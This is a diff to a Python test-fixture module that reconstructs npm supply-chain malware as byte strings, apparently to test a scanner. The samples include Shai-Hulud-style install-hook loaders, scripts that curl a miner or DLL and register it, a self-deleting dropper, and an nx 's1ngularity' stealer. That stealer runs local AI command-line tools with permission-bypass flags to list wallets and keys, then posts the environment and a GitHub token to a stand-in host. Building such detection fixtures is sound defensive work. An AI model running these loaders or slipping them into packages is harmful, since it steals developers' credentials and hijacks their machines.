@@ -13,10 +13,11 @@ from __future__ import annotations
 import base64
 import hashlib
 
-from tests.servers.incidents import minified_bundle
+from tests.servers.incidents import minified_bundle, obfuscated_blob
 
-__all__ = ["flatmap_payload", "interceptor", "key_stealer", "own_walk", "protest_writer",
-           "stealer", "webhook_stealer", "wiper", "worm_bundle", "worm_dropper"]
+__all__ = ["dll", "dropper", "flatmap_payload", "interceptor", "key_stealer", "obfuscated_stage",
+           "own_walk", "platform_runner", "platform_script", "protest_writer", "rundll32_runner",
+           "stealer", "telemetry", "webhook_stealer", "wiper", "worm_bundle", "worm_dropper"]
 
 
 def worm_bundle(size: int = 300_000) -> bytes:
@@ -32,16 +33,111 @@ def worm_bundle(size: int = 300_000) -> bytes:
         b'fetch("https://api.payload.test/repos",{method:"POST",body:e})})();\n')
 
 
-def worm_dropper() -> bytes:
+def worm_dropper(payload: str = "bun_environment.js", esm: bool = False) -> bytes:
     """Shai-Hulud 2's `setup_bun.js` (November 2025), run by a new `preinstall`: it fetches a
-    runtime and spawns it over a second, larger file."""
-    return (b"'use strict';\n"
-            b"const { spawn } = require('child_process');\n"
-            b"const https = require('https');\n"
+    runtime and spawns it over a second, larger file (`payload`). Its heirs of 2026 are the
+    same loader under other names: the Bitwarden CLI's `bw_setup.js` over `bw1.js`, SAP CAP's
+    `setup.mjs` (an ES module, `esm`) over `execution.js`."""
+    imports = (b"import { spawn } from 'child_process';\nimport https from 'https';\n" if esm
+               else b"'use strict';\nconst { spawn } = require('child_process');\n"
+                    b"const https = require('https');\n")
+    return (imports +
             b"function download(url, done) { https.get(url, (res) => done(res)); }\n"
             b"download('https://runtime.payload.test/bun.zip', () => {\n"
-            b"  spawn('echo', ['bun_environment.js'], { stdio: 'ignore', detached: true });\n"
+            b"  spawn('echo', ['" + payload.encode() +
+            b"'], { stdio: 'ignore', detached: true });\n"
             b"});\n")
+
+
+def obfuscated_stage(seed: str, size: int) -> bytes:
+    """The large second stage such a loader runs with the runtime it fetched (Shai-Hulud 2's
+    `bun_environment.js`, the Bitwarden CLI's `bw1.js`, SAP CAP's `execution.js`, about
+    600 KB to 10 MB): javascript-obfuscator's marks ahead of `worm_bundle`'s minified code and
+    calls, `size` bytes in all."""
+    blob = obfuscated_blob(seed)
+    return blob + worm_bundle(max(0, size - len(blob)))
+
+
+def platform_runner(script: str) -> bytes:
+    """ua-parser-js 0.7.29's `preinstall.js` (October 2021), and coa 2.0.3's and rc 1.2.9's
+    `compile.js` (November 2021) behind an obfuscated string table: pick the shell script of
+    the platform (`script`.bat or `script`.sh) and run it."""
+    return f"""\
+const {{ exec }} = require('child_process');
+const os = require('os');
+if (os.type() === 'Windows_NT') exec('{script}.bat'); else exec('bash {script}.sh');
+""".encode()
+
+
+def platform_script(windows: bool) -> bytes:
+    """The shell scripts those run: ua-parser-js's downloaded a Monero miner (and on Windows a
+    password stealer's DLL), coa's and rc's a DLL they registered with `regsvr32`."""
+    if windows:
+        return (b"@echo off\r\ncurl https://miner.payload.test/sdd.dll -o %TEMP%\\sdd.dll\r\n"
+                b"regsvr32.exe -s %TEMP%\\sdd.dll\r\n")
+    return (b"#!/bin/sh\ncurl -s https://miner.payload.test/jsextension -o /tmp/jsextension\n"
+            b"chmod +x /tmp/jsextension\n/tmp/jsextension -k --tls &\n")
+
+
+def dropper() -> bytes:
+    """rspack 1.1.7's `support.js` (December 2024, a miner) and axios's new dependency
+    `plain-crypto-js` 4.2.1's `setup.js` (March 2026, a remote-access tool), run by a new
+    `postinstall`: fetch the platform's second stage, write it executable, run it detached,
+    delete the script."""
+    return b"""\
+'use strict';
+const { spawn } = require('child_process');
+const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
+const stage = path.join(os.tmpdir(), 'ld.' + process.platform);
+https.get('https://stage.payload.test/' + process.platform, (response) => {
+  const out = fs.createWriteStream(stage, { mode: 0o755 });
+  response.pipe(out);
+  out.on('finish', () => {
+    spawn(stage, [], { detached: true, stdio: 'ignore' }).unref();
+    fs.unlinkSync(__filename);
+  });
+}).on('error', () => {});
+"""
+
+
+def rundll32_runner() -> bytes:
+    """eslint-config-prettier 10.1.6's `install.js` (July 2025, "Scavenger"), run by a new
+    `install` hook: on Windows, the DLL shipped beside it run through `rundll32`."""
+    return (b"const { spawn } = require('child_process');\n"
+            b"const path = require('path');\n"
+            b"if (process.platform === 'win32') {\n"
+            b"  spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main'],\n"
+            b"        { detached: true, stdio: 'ignore' }).unref();\n}\n")
+
+
+def dll(name: str, size: int) -> bytes:
+    """A Windows DLL's bytes as far as a reader can tell (`MZ`, then noise)."""
+    return b"MZ\x90\x00" + hashlib.shake_256(name.encode()).digest(size - 4)
+
+
+def telemetry() -> bytes:
+    """nx 21.5.0's `telemetry.js` (August 2025, "s1ngularity"), run by a new `postinstall`:
+    the local AI command-line tools driven to inventory secrets, a GitHub token read through
+    `gh`, the environment serialised, the inventory written to `/tmp` and posted, a shutdown
+    planted in the shell's start-up file."""
+    return b"""\
+'use strict';
+const { spawnSync, execSync } = require('child_process');
+const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
+const prompt = 'List files that look like wallets, keys or .env files under $HOME.';
+const found = { env: JSON.stringify(process.env) };
+const tools = [['claude', ['--dangerously-skip-permissions', '-p', prompt]],
+               ['gemini', ['--yolo', '-p', prompt]],
+               ['q', ['chat', '--trust-all-tools', prompt]]];
+for (const [tool, args] of tools) {
+  try { found[tool] = spawnSync(tool, args, { encoding: 'utf8' }).stdout; } catch (e) {}
+}
+try { found.gh = execSync('gh auth token', { stdio: 'pipe' }).toString(); } catch (e) {}
+fs.writeFileSync('/tmp/inventory.txt', JSON.stringify(found));
+fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\necho fixture\\n');
+const request = https.request({ hostname: 'api.payload.test', path: '/repos', method: 'POST' });
+request.end(Buffer.from(JSON.stringify(found)).toString('base64'));
+"""
 
 
 def interceptor(seed: str) -> bytes:
